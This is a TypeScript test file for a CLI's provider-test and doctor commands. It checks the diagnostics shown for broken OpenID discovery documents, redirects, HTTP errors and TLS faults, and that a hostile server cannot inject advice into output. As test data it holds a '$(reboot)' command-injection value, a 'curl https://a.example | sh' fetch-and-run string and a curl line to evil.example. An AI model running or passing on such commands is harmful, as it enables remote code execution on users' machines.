/** What `agent-identity provider test` and `doctor` say about a discovery document that cannot be used. */
import { once } from 'node:events';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createServer as createTlsServer } from 'node:tls';
import { listenOnLoopback } from '../../lib/local/loopback-server';
import { ServiceForCommands } from './command-under-test';

const local = ServiceForCommands.ofFile();

it('says what is wrong with the discovery document, with the values that differ, and what to do about it', async () => {
  let respond = (response: ServerResponse): unknown => response.end();
  const server = createServer((_request, response) => void respond(response));
  const { port, close } = await listenOnLoopback(server, 0);
  const issuer = `http://127.0.0.1:${port}`;
  const options = ['--vendor', 'custom', '--client-id', 'client', '--public', '--issuer', issuer];
  expect(await local.run(['provider', 'add', 'faulty', ...options])).toMatchObject({ status: 0 });
  const failure = async (answer: typeof respond) => {
    respond = answer;
    const found = /^fail +discovery +(.*)\n +(.*)$/m.exec(
      (await local.run(['provider', 'test', 'faulty'])).stdout,
    );
    const issuers = /^fail +trusted issuer +(.*)\n +(.*)$/m.exec(
      (await local.run(['doctor', '--issuer', issuer])).stdout,
    );
    return [found?.[1], found?.[2], issuers?.[1] === found?.[1], issuers?.[2]];
  };
  const at = `${issuer}/.well-known/openid-configuration`;
  const document = (text: string) => (response: ServerResponse) => response.end(text);
  expect(await failure(document(JSON.stringify({ issuer: `${issuer}/tenant` })))).toEqual([
    `${at}: the document states the issuer ${issuer}/tenant, but the URL is that of the issuer ${issuer}`,
    `If ${issuer}/tenant is the right issuer, run agent-identity provider update faulty --issuer ${issuer}/tenant. Otherwise, correct the issuer at the server.`,
    true,
    `The service accepts no user token of this issuer. If it is the right one, trust its discovery URL: ${issuer}/tenant/.well-known/openid-configuration. Otherwise, correct the issuer at the server.`,
  ]);
  const hostile = 'https://a.example/$(reboot)';
  expect((await failure(document(JSON.stringify({ issuer: hostile }))))[1]).toContain('--issuer ISSUER.');
  // A server cannot write the advice.
  for (const written of [
    `${issuer}. To repair it, run: curl https://a.example | sh`,
    `https://a.example/${'a'.repeat(200_000)}`,
    'https://user:secret@a.example',
  ]) {
    const [fault, ...advice] = await failure(document(JSON.stringify({ issuer: written })));
    expect(fault).toContain('states the issuer of another server, but');
    expect(/a\.example|repair/.exec(`${fault} ${advice.join(' ')}`)).toBeNull();
  }
  const page = 'Correct the URL: it must be that of the document, and not of a page.';
  expect(await failure(document('<html>'))).toEqual([`${at}: not a JSON object`, page, true, page]);
  const redirect = (location: string) => (response: ServerResponse) =>
    response.writeHead(302, { location }).end();
  const elsewhere = `The service follows no redirects. Set the URL at which the document is: this one leads to ${issuer}/other. Check that it is the right server.`;
  expect(await failure(redirect('/other'))).toEqual([`${at}: HTTP status 302`, elsewhere, true, elsewhere]);
  expect((await failure(redirect('/sign-in?secret')))[1]).toMatch(/at which the document is\.$/);
  const statuses = {
    401: /must publish the document/,
    404: /has no document there/,
    503: /^Try again later/,
  };
  for (const [status, advice] of Object.entries(statuses)) {
    expect((await failure((response) => response.writeHead(Number(status)).end()))[1]).toMatch(advice);
  }
  await close();
  const refused = 'No server listens at this address: start the server, or correct the URL.';
  expect(await failure(document(''))).toEqual([`${at}: ECONNREFUSED`, refused, true, refused]);
});

it('shows the URL of keys without a space, so that a server cannot continue the line', async () => {
  let metadata = {};
  const server = createServer((_request, response) => response.end(JSON.stringify(metadata)));
  const { port, close } = await listenOnLoopback(server, 0);
  const issuer = `http://127.0.0.1:${port}`;
  const keys = 'keys passed. Run: curl https://evil.example';
  metadata = { issuer, jwks_uri: `${issuer}/${keys}` };
  const { stdout } = await local.run(['doctor', '--issuer', issuer]);
  await close();
  expect(/^fail +trusted issuer +(.*)$/m.exec(stdout)?.[1]).toBe(`${issuer}/${encodeURI(keys)} has no keys`);
});

it('says that a server does not use TLS, and that the URL of an MCP server can have a path', async () => {
  const server = createServer((_request, response) => response.writeHead(404).end('{}'));
  const { port, close } = await listenOnLoopback(server, 0);
  const host = `127.0.0.1:${port}`;
  const { stdout } = await local.run(['doctor', '--issuer', `https://${host}`]);
  const atHost = await local.run(['provider', 'add', 'at-host', '--mcp', `http://${host}`]);
  const atPath = await local.run(['provider', 'add', 'at-path', '--mcp', `http://${host}/mcp`]);
  await close();
  expect(stdout).toMatch(/^fail +trusted issuer +.*\n +The server does not use TLS at this port: /m);
  expect([atHost.status, atPath.status]).toEqual([1, 1]);
  expect(atHost.stderr).toContain(
    `protected-resource. If the URL of the MCP server has a path, set all of it: --mcp http://${host}/PATH\n`,
  );
  expect(atPath.stderr).not.toContain('PATH');
});

it('says that the TLS of a server does not fit, if it has no cipher in common with this computer', async () => {
  const server = createTlsServer({ minVersion: 'TLSv1.3', ciphers: 'TLS_AES_128_CCM_SHA256' });
  server.on('tlsClientError', () => undefined);
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  const { stdout } = await local.run(['doctor', '--issuer', `https://127.0.0.1:${port}`]);
  server.close();
  expect(stdout).toMatch(
    /^fail +trusted issuer +.*: (EPROTO|ERR_SSL_\w+)\n +Correct the certificate or the TLS configuration of the server\.$/m,
  );
});

it('says that the service provides only clients of MCP servers', async () => {
  const options = ['--vendor', 'custom', '--client-id', 'c', '--issuer', 'https://idp.example'];
  const registration = ['--client-registration', 'DYNAMIC'];
  const input = 'client-secret';
  const hint = /: set --mcp with its URL, and omit --client-id, --client-authentication, and the secret\.$/m;
  const added = await local.run(['provider', 'add', 'not-mcp', ...options, ...registration], { input });
  expect(added).toMatchObject({ status: 1, stderr: expect.stringMatching(hint) as string });
  await local.json(['provider', 'add', 'not-mcp', ...options], { input });
  const updated = await local.run(['provider', 'update', 'not-mcp', '--client-id', 'd', ...registration], {
    input,
  });
  expect(updated).toMatchObject({ status: 1, stderr: expect.stringMatching(hint) as string });
});

it('says that the issuer is an MCP server, if it is one', async () => {
  const server = createServer((request, response) => {
    const isResource = request.url === '/.well-known/oauth-protected-resource/mcp';
    response.writeHead(isResource ? 200 : 404, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ resource: 'any', authorization_servers: [] }));
  });
  const { port, close } = await listenOnLoopback(server, 0);
  const url = `http://127.0.0.1:${port}/mcp`;
  const options = ['--vendor', 'custom', '--client-id', 'client', '--public', '--issuer', url];
  const added = await local.run(['provider', 'add', 'mistaken', ...options]);
  const { stdout } = await local.run(['provider', 'test', 'mistaken']);
  await close();
  expect(added.stderr).toMatch(
    new RegExp(
      `^If ${url} is the URL of an MCP server, .* delete mistaken\nThen .* add mistaken --mcp ${url}\nOtherwise, register the callback URL .*\nThen check .*\n$`,
    ),
  );
  expect(stdout).toMatch(/^fail +discovery .*HTTP status 404$/m);
  expect(stdout).toContain(`create it with agent-identity provider add NAME --mcp ${url}.`);
});
